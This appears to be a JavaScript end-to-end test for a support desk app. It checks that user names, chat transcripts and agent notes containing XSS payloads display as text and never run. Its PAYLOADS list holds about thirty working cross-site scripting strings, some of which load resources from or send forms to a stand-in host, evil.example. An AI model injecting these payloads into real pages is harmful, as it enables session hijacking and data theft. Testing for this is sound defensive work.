/** What people write, and what they are called, is never markup: none of it runs or loads. */

import assert from 'node:assert/strict';

import { Desk } from './browser.js';
import { after, test } from './limits.js';
import { openWorkplace } from './workplace.js';

// Each calls window.hit, or asks another server, in a way of its own.
const PAYLOADS = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '"><script>hit()</script>',
  "'><img src=x onerror=hit()>",
  '" autofocus onfocus=hit() x="',
  '</textarea><script>hit()</script>',
  '</title><svg/onload=hit()>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<a href="javascript:hit()">https://x</a>',
  'javascript:hit()//https://example.com',
  'https://example.com/"onmouseover="hit()',
  'https://example.com/<script>hit()</script>',
  'http://[javascript:hit()]',
  'data:text/html,<script>hit()</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<img src=https://evil.example/pixel.gif>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button>Claim</button></form>',
  '<details open ontoggle=hit()>',
  '<marquee onstart=hit()>',
  '<math><mi xlink:href="javascript:hit()">',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '<scr\u0000ipt>hit()</scr\u0000ipt>'.replaceAll('\u0000', ''),
  '<ScRiPt >hit()</ScRiPt >',
  '**<b onclick=hit()>bold</b>**',
  '\u202e<script>hit()</script>',
];

const { telegram, program, browser, close } = await openWorkplace('eve');
after(close);

test('payloads in transcripts, names and notes stay words', async () => {
  const person = { id: 77, first_name: '<img src=x onerror=hit()>', last_name: '"><svg onload=hit()>' };
  const name = `${person.first_name} ${person.last_name}`;
  telegram.writes(person, 'human please');
  await telegram.sees(person, 'line');

  const desk = await Desk.open(browser, program);
  const { page } = desk;
  await page.exposeFunction('hit', () => desk.troubles.push('hit: a payload ran'));
  await desk.signIn('eve');
  await page.locator('#rows').getByText(name, { exact: true }).click();
  await page.locator('#acts').getByRole('button', { name: 'Claim' }).click();
  await telegram.sees(person, 'eve');

  for (const payload of PAYLOADS) telegram.writes(person, payload);
  telegram.writes(person, 'the last of them');
  await page.locator('#transcript').getByText('the last of them').waitFor();
  await page.locator('#as-note').click();
  for (const payload of PAYLOADS.slice(0, 8)) {
    await page.locator('#as-note').click();
    await page.locator('#words').fill(payload);
    await page.locator('#send').click();
    await page.locator('#transcript .note').filter({ hasText: payload }).waitFor();
  }
  const before = telegram.count(person);
  await page.locator('#words').fill(PAYLOADS[1]);
  await page.locator('#send').click();
  await telegram.sees(person, PAYLOADS[1], before);

  const text = await page.locator('#transcript').innerText();
  const flat = (words) => words.replace(/\s+/g, ' ').trim();
  for (const payload of PAYLOADS) {
    assert.ok(flat(text).includes(flat(payload)), `shown as it was written: ${payload}`);
  }
  const strange = await page.evaluate(() => {
    const kinds = 'script:not([src="main.js"]), iframe, img, object, embed, base, marquee, style, form:not([id], [method])';
    const links = [...document.links].filter((link) => !/^https?:$/.test(link.protocol));
    const handlers = [...document.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    );
    return [...document.querySelectorAll(kinds), ...links, ...handlers].map((it) => it.outerHTML);
  });
  assert.deepEqual(strange, []);
  await page.locator('#search').fill('<img src=x onerror=hit()>');
  await page.locator('#rows').getByText(name, { exact: true }).waitFor();
  await desk.close();
  assert.deepEqual(telegram.broken, []);
});
